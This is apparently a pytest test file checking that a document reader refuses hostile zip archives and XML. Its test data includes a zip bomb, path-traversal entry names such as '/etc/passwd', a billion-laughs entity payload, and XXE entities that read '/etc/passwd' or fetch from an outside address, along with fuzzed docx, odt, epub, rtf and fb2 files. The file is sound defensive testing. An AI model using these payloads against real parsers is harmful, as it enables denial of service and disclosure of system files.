"""Zip files and XML that somebody hostile made are refused, before they take time or memory."""

from __future__ import annotations

import random
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from core.errors import Reason, UnreadableFile
from core.model import Text
from core.reading import formats, limits, read
from core.reading.archive import Archive, Budget
from core.reading.draft import Raw
from tests.core.reading.packed import docx, epub, odt, packed_as

LAUGHS = '<!DOCTYPE a [<!ENTITY b0 "ha">' + "".join(f'<!ENTITY b{i + 1} "{f"&b{i};" * 9}">' for i in range(9)) + "]>"


def refused(data: bytes, *names: str) -> Reason:
    """Why an archive, or what these entries of it unpack to, is refused."""
    with pytest.raises(UnreadableFile) as caught:
        list(map(Archive(Raw(data, "x.zip")).read, names))
    return caught.value.reason


def parsed(data: bytes) -> Reason:
    with pytest.raises(UnreadableFile) as caught:
        Budget(Raw(data, "x.xml")).parse(data)
    return caught.value.reason


def test_a_file_is_read_from_an_archive() -> None:
    archive = Archive(Raw(packed_as({"a": b"text", "b": "<a>x<!-- y -->z</a>"}), "x"))
    assert archive.names == {"a", "b"}
    assert archive.read("a") == b"text"
    assert archive.xml("b").text == "xz"


def test_a_bomb_is_hostile_and_a_large_file_too_large() -> None:
    bomb = packed_as({"a": bytes(limits.UNPACKED + 1)})
    assert len(bomb) < 100_000
    assert refused(bomb, "a") is Reason.HOSTILE
    stored = packed_as({"a": bytes(limits.UNPACKED // 2 + 1), "b": bytes(limits.UNPACKED // 2)}, zipfile.ZIP_STORED)
    assert refused(stored, "a", "b") is Reason.TOO_LARGE


def test_what_is_not_read_may_be_as_large_as_it_likes() -> None:
    data = packed_as({"a": b"text", "picture": bytes(limits.UNPACKED + 1)})
    assert Archive(Raw(data, "x")).read("a") == b"text"


def test_an_entry_that_lies_about_its_size_is_broken() -> None:
    data = bytearray(packed_as({"a": bytes(1_000_000)}))
    at = data.rindex(b"PK\1\2")
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    assert refused(bytes(data), "a") is Reason.BROKEN


def test_entries_that_overlap_are_hostile() -> None:
    data = bytearray(packed_as({"a": b"x" * 100, "b": b"y" * 100}, zipfile.ZIP_STORED))
    at = data.rindex(b"PK\1\2")
    data[at + 42 : at + 46] = (20).to_bytes(4, "little")
    assert refused(bytes(data), "a", "b") is Reason.HOSTILE


def test_more_entries_than_any_document_has_are_hostile() -> None:
    data = packed_as(dict.fromkeys(map(str, range(limits.ENTRIES + 1)), ""), zipfile.ZIP_STORED)
    assert refused(data) is Reason.HOSTILE


@pytest.mark.parametrize("name", ["../../evil", "/etc/passwd", "a/../../b"])
def test_names_that_lead_out_of_an_archive_are_hostile(name: str) -> None:
    assert refused(packed_as({name: b""})) is Reason.HOSTILE


def test_an_archive_with_a_password_is_encrypted() -> None:
    data = bytearray(packed_as({"a": b"text"}))
    data[data.rindex(b"PK\1\2") + 8] |= 1
    assert refused(bytes(data)) is Reason.ENCRYPTED


def test_a_way_of_packing_that_cannot_be_limited_is_not_supported() -> None:
    assert refused(packed_as({"a": b"text"}, zipfile.ZIP_BZIP2), "a") is Reason.UNSUPPORTED


def test_what_is_cut_off_or_missing_is_broken() -> None:
    data = packed_as({"a": b"text" * 100, "b": b""})
    assert refused(data[: len(data) // 2]) is Reason.BROKEN
    assert refused(data, "c") is Reason.BROKEN


@pytest.mark.parametrize(
    ("xml", "reason"),
    [
        (LAUGHS + "<a>&b9;</a>", Reason.HOSTILE),
        (LAUGHS + '<a b="&b9;"/>', Reason.HOSTILE),
        ('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', Reason.HOSTILE),
        ('<!DOCTYPE a [<!ENTITY % b SYSTEM "http://192.0.2.1/b">%b;]><a/>', Reason.HOSTILE),
        ("<a>" * 300 + "</a>" * 300, Reason.HOSTILE),
        ("<a/>" * (limits.MARKS + 1), Reason.TOO_LARGE),
        ("<a>", Reason.BROKEN),
        ("", Reason.BROKEN),
        ("<a>\x01</a>", Reason.BROKEN),
    ],
    ids=["laughs", "laughs in an attribute", "external", "parameter", "deep", "marks", "cut", "empty", "control"],
)
def test_hostile_xml_is_refused(xml: str, reason: Reason) -> None:
    assert parsed(xml.encode()) is reason


def test_entities_are_found_in_any_encoding() -> None:
    assert parsed((LAUGHS + "<a/>").encode("utf-16")) is Reason.HOSTILE


def test_a_dtd_elsewhere_is_never_looked_at(tmp_path: Path) -> None:
    (tmp_path / "a.dtd").write_text('<!ENTITY b "from outside">')
    data = f'<!DOCTYPE a SYSTEM "{(tmp_path / "a.dtd").as_uri()}"><a>x&b;</a>'.encode()
    root = Budget(Raw(data, "x")).parse(data)
    assert "".join(root.itertext(with_tail=False)) == "x&b;"


def test_a_page_with_entities_is_hostile_and_one_that_is_too_deep_too() -> None:
    for page in (LAUGHS + "<html><body>&b9;</body></html>", "<div>" * 3000):
        with pytest.raises(UnreadableFile) as caught:
            read(Text(epub({"a.xhtml": page}), "book.epub"))
        assert caught.value.reason is Reason.HOSTILE


def test_a_hostile_part_of_a_document_is_refused() -> None:
    styles = LAUGHS.replace("DOCTYPE a", "DOCTYPE styles") + "<styles/>"
    with pytest.raises(UnreadableFile) as caught:
        read(Text(docx("", {"styles": styles}), "letter.docx"))
    assert caught.value.reason is Reason.HOSTILE


def mutants(content: bytes, count: int) -> Iterator[bytes]:
    """Damaged copies: bytes changed, stretches lost or doubled, ends cut off."""
    chance = random.Random(7)
    for _ in range(count):
        data = bytearray(content)
        for _ in range(chance.choice((1, 4, 20))):
            at = chance.randrange(len(data))
            match chance.randrange(4):
                case 0:
                    data[at] = chance.randrange(256)
                case 1:
                    data[at] = chance.choice(b"<>&\"'/\\{}=0; ")
                case 2 if len(data) > 40:
                    del data[at : at + chance.randrange(30)]
                case _:
                    data[at:at] = data[at : at + 30]
        yield bytes(data[: chance.randrange(len(data))] if chance.random() < 0.15 else data)


RTF = (
    b"{\\rtf1\\ansi{\\fonttbl{\\f0\\fcharset204 A;}}{\\stylesheet{\\s1 heading 1;}}{\\info{\\title T}}"
    b"\\pard\\s1 One\\par\\pard\\intbl a\\cell\\intbl\\itap2 b\\nestcell{\\*\\nesttableprops\\nestrow}\\cell\\row"
    b"\\pard{\\footnote n}\\u1078?\\'e9{\\pict\\bin3 abc}{\\shp{\\*\\shpinst{\\shptxt box\\par}}}\\par}"
)
PARTS = {
    "docx": '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>a</w:t><w:fldChar w:fldCharType="begin"/></w:r></w:p>'
    "<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>",
    "odt": "<text:p>a<text:note><text:note-body><text:p>b</text:p></text:note-body></text:note></text:p><text:list>"
    "<text:list-item><text:h text:outline-level='1'>c</text:h></text:list-item></text:list>",
    "epub": "<html><body><p>a<br/>b</p><table><tr><td>c</td></tr></table><h1>d</h1></body></html>",
}


@pytest.mark.parametrize("name", ["docx", "odt", "epub", "rtf", "fb2"])
def test_a_damaged_file_is_refused_or_read_and_nothing_else_happens(name: str) -> None:
    part = PARTS.get(name, "")
    fiction = b"<FictionBook><body><section><title><p>a</p></title><p>b</p></section></body></FictionBook>"
    makers: dict[str, Callable[[str], bytes]] = {"docx": docx, "odt": odt, "epub": lambda page: epub({"a.xhtml": page})}
    make = makers.get(name)
    whole = make(part) if make else RTF if name == "rtf" else fiction
    damaged = list(mutants(whole, 150))
    if make:
        # The parts too: in the archive their damage would only be found by their checksums.
        damaged += (make(text.decode("utf-8", "replace")) for text in mutants(part.encode(), 150))
    for data in damaged:
        try:
            formats.recognise(data, f".{name}").read(Raw(data, f"x.{name}"))
        except UnreadableFile:
            continue
